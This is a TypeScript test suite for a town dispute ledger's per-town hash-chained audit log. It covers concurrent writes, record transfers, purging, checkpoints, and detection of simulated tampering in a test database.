  afterEach(() => (ctx as TestContext | undefined)?.close()); // unset when beforeEach failed

  it('interleaves writers in two towns, each town numbered without gaps in its own chain', async () => {
    const written = await Promise.all(Array.from({ length: 20 }, (_, i) => make(i % 2 ? f.otherVillage : f.villageA, `两镇同时登记的纠纷第${i + 1}件`)));
    const rows = await rowsOf(ctx);
    const chainOf = new Map(rows.map((r) => [r.record_id, r.chain]));
    expect(written.map((r) => chainOf.get(r.id))).toEqual(written.map((_, i) => (i % 2 ? f.otherTown.id : f.town.id)));
    for (const town of [f.town.id, f.otherTown.id]) {
      const own = rows.filter((r) => r.chain === town);
      expect(own.map((r) => r.seq)).toEqual(own.map((_, i) => i + 1));
    }
    // Neither town waited for the other to finish all its writes: their ids are mixed.
    const idsA = rows.filter((r) => r.chain === f.town.id).map((r) => r.id);
    const idsB = rows.filter((r) => r.chain === f.otherTown.id).map((r) => r.id);
    expect(Math.min(...idsB)).toBeLessThan(Math.max(...idsA));
    expect(Math.min(...idsA)).toBeLessThan(Math.max(...idsB));
    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true, rows: rows.length, chains: 2 });
  });

  it("finishes a write in one town while another town's turn is held, and queues the held town's next write behind it", async () => {
    // SQLite has one writer at a time: a transaction held open there holds up every other write.
    if (isSqlite(ctx.db.kysely)) return;
    let release: (() => void) | undefined;
    const released = new Promise<void>((resolve) => (release = resolve));
    let holding: (() => void) | undefined;
    const held = new Promise<void>((resolve) => (holding = resolve));
    const open = ctx.db.kysely.transaction().execute(async (trx) => {
      await writeAudit(trx, clerk, { action: 'update', kind: 'dispute', recordId: 'held-open', orgId: f.villageA.id, town: f.town.id });
      holding?.();
      await released;
    });
    await held;
    let queuedDone = false;
    const queued = make(f.villageA, '排在未提交写入之后的甲镇纠纷').then((r) => {
      queuedDone = true;
      return r;
    });
    // 乙镇's record and its audit row are committed while 甲镇's turn is held.
    const elsewhere = await make(f.otherVillage, '甲镇写入未提交时乙镇登记的纠纷');
    expect((await auditRowOf(elsewhere.id)).chain).toBe(f.otherTown.id);
    expect(queuedDone).toBe(false);
    release?.();
    await open;
    const after = await queued;
    const [heldRow, queuedRow] = [await auditRowOf('held-open', 'update'), await auditRowOf(after.id)];
    expect(queuedRow).toMatchObject({ chain: f.town.id, seq: heldRow.seq + 1, prev_hash: heldRow.hash });
    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true });
  });

  it('moves records between two towns both ways at once, among new records in both, without deadlock or loss', async () => {
    const count = 6;
    let inA = await Promise.all(Array.from({ length: count }, (_, i) => make(f.villageA, `甲镇待移交的纠纷${i + 1}`)));
    let inB = await Promise.all(Array.from({ length: count }, (_, i) => make(f.otherVillage, `乙镇待移交的纠纷${i + 1}`)));
    for (let round = 0; round < 4; round++) {
      const results = await Promise.all([
        ...inA.map((r) => ctx.ledger.update(f.system, 'dispute', r.id, { orgId: f.otherVillage.id, version: r.version })),
        ...inB.map((r) => ctx.ledger.update(f.system, 'dispute', r.id, { orgId: f.villageA.id, version: r.version })),
        make(f.villageA, `第${round + 1}轮移交时甲镇新登记的纠纷`),
        make(f.otherVillage, `第${round + 1}轮移交时乙镇新登记的纠纷`),
      ]);
      [inB, inA] = [results.slice(0, count), results.slice(count, 2 * count)];
    }
    // Each move is audited in the chain of the town the record went to.
    for (const r of inA) expect((await auditRowOf(r.id, 'update')).chain).toBe(f.town.id);
    for (const r of inB) expect((await auditRowOf(r.id, 'update')).chain).toBe(f.otherTown.id);
    const towns = await ctx.db.kysely.selectFrom('ledger_dispute' as never).select(['town_id' as never]).where('id' as never, 'in', inA.map((r) => r.id) as never).execute();
    expect(towns.map((t) => (t as { town_id: string }).town_id)).toEqual(inA.map(() => f.town.id));
    expect((await checkSummaries(ctx.db, [disputeKind()]))[0]?.differing).toBe(0);
    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true });
  });

  it("names the town whose chain was tampered with, and that town's row", async () => {
    await make(f.villageA, '甲镇的纠纷');
    const victim = await make(f.otherVillage, '乙镇的纠纷');
    await make(f.otherVillage, '乙镇的另一件纠纷');
    const row = await auditRowOf(victim.id);
    await dropTriggers(ctx);
    await sql`update audit_log set actor_name = ${'别人'} where id = ${row.id}`.execute(ctx.db.kysely);
    const report = await verifyAuditChain(ctx.db);
    expect(report).toMatchObject({ ok: false, firstBad: { id: row.id, chain: f.otherTown.id } });
    expect(!report.ok && report.firstBad.reason).toContain('乙镇的审计链');
    const cli = await runCli(ctx, ['verify']);
    expect(cli.code).toBe(1);
    expect(cli.output).toContain('乙镇的审计链');
  });

  it("reports a gap in a town's numbering even when the row after it was relinked with the key", async () => {
    const written = [];
    for (let i = 1; i <= 4; i++) written.push(await make(f.villageA, `甲镇第${i}件纠纷`));
    const [first, second, third] = [await auditRowOf(written[0]?.id ?? ''), await auditRowOf(written[1]?.id ?? ''), await auditRowOf(written[2]?.id ?? '')];
    expect([first.seq, second.seq, third.seq]).toEqual([1, 2, 3]);
    await dropTriggers(ctx);
    // Someone holding the key removes the second row and relinks the third to the first: every link holds.
    const key = new ChainKey(auditMacKeys(Buffer.from(ctx.config.key ?? '', 'hex')).chain, ctx.cipher.algorithm === 'sm4' ? 'sm3' : 'sha256');
    await sql`delete from audit_log where id = ${second.id}`.execute(ctx.db.kysely);
    const relinked = key.hash(first.hash ?? '', third);
    await sql`update audit_log set prev_hash = ${first.hash}, hash = ${relinked} where id = ${third.id}`.execute(ctx.db.kysely);
    const fourth = await auditRowOf(written[3]?.id ?? '');
    await sql`update audit_log set prev_hash = ${relinked}, hash = ${key.hash(relinked, fourth)} where id = ${fourth.id}`.execute(ctx.db.kysely);
    const report = await verifyAuditChain(ctx.db);
    expect(report).toMatchObject({ ok: false, firstBad: { id: third.id, chain: f.town.id } });
    expect(!report.ok && report.firstBad.reason).toContain('第 2 条缺失');
  });

  it("checkpoints every chain's head, and names a town whose newest rows were cut off", async () => {
    for (let i = 1; i <= 3; i++) await make(f.villageA, `甲镇第${i}件纠纷`);
    for (let i = 1; i <= 3; i++) await make(f.otherVillage, `乙镇第${i}件纠纷`);
    const checkpoint = await ctx.auditAnchor.checkpoint('command');
    expect(checkpoint?.heads?.map(([chain, seq]) => [chain, seq])).toEqual(
      expect.arrayContaining([
        [f.town.id, 3],
        [f.otherTown.id, 3],
      ]),
    );
    await dropTriggers(ctx);
    const newest = await ctx.db.kysely.selectFrom('audit_log').select('id').where('chain', '=', f.otherTown.id).where('seq', '=', 3).executeTakeFirstOrThrow();
    await sql`delete from audit_log where id = ${newest.id}`.execute(ctx.db.kysely);
    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true });
    const report = await verifyAuditChain(ctx.db, (await ctx.auditAnchor.read()).checkpoints);
    expect(report).toMatchObject({ ok: false, firstBad: { id: newest.id, chain: f.otherTown.id } });
    expect(!report.ok && report.firstBad.reason).toContain('截断');
  });

  it("purges each chain's old rows but never its newest, and the rest still verifies", async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    try {
      vi.setSystemTime(new Date(Date.now() - 400 * 86_400_000));
      for (let i = 1; i <= 3; i++) await make(f.villageA, `去年甲镇第${i}件纠纷`);
      await make(f.otherVillage, '去年乙镇唯一的纠纷');
    } finally {
      vi.useRealTimers();
    }
    await make(f.villageA, '今年甲镇的纠纷');
    const result = await purgeAuditLog(ctx.db, clerk, todayInChina(new Date(Date.now() - 200 * 86_400_000)));
    // 甲镇 loses its three old rows; 乙镇's only row is its head and stays; the global chain's setup rows go too.
    const rows = await rowsOf(ctx);
    expect(rows.filter((r) => r.chain === f.town.id).map((r) => r.seq)).toEqual([4]);
    expect(rows.filter((r) => r.chain === f.otherTown.id).map((r) => r.seq)).toEqual([1]);
    expect(Object.keys(result.anchors)).toContain(f.town.id);
    expect(Object.keys(result.anchors)).not.toContain(f.otherTown.id);
    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true });
    // A second purge leaves 甲镇 whole and still records where it starts.
    await purgeAuditLog(ctx.db, clerk, todayInChina(new Date(Date.now() - 200 * 86_400_000)));
    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true });
  });
});
